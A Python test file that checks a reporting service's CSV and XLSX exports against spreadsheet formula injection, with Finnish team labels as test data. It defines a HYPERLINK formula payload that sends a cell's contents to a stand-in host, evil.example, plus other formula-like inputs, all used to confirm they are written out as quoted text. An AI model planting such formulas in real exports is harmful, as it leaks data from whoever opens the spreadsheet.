"""Exports never carry a formula: a team named like one is written as text (OWASP's CSV-injection advice)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from services.reporting import export
from services.reporting.model import Column, Table
from shared.spreadsheet import safe_cell, safe_row

EVIL = '=HYPERLINK("https://evil.example/?d="&A2,"Avaa")'


@pytest.mark.parametrize("value", [EVIL, "+358401234567", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_a_text_that_starts_like_a_formula_gets_a_quote(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Turku", "x", "", "Perheohjaus = tuki", 7, -3, 12.5, None])
def test_anything_else_is_left_as_it_is(value: object) -> None:
    assert safe_cell(value) == value
    assert safe_row([value, value]) == [value, value]


def team_table() -> Table:
    return Table("response_by_team", "Tiimit", (Column("team", "Tiimi", "label"), Column("n", "Yhteydenotot", "count")),
                 [[EVIL, 7], ["-tiimi", "x"], ["Perheohjaus", -1]], total=["@yhteensä", 12])


def test_csv_of_a_team_named_like_a_formula() -> None:
    text = export.to_csv(team_table(), "", "fi").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1] == ["'" + EVIL, "7"] and rows[2] == ["'-tiimi", "x"] and rows[4] == ["'@yhteensä", "12"]
    assert rows[3] == ["Perheohjaus", "-1"]  # a number stays a number
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row if cell != "-1")


def test_xlsx_of_a_team_named_like_a_formula() -> None:
    book = load_workbook(io.BytesIO(export.to_xlsx([team_table()], "=heading", "+note")))
    sheet = book["Tiimit"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    values = [c.value for c in cells]
    assert "'" + EVIL in values and "'=heading" in values and "'+note" in values and -1 in values
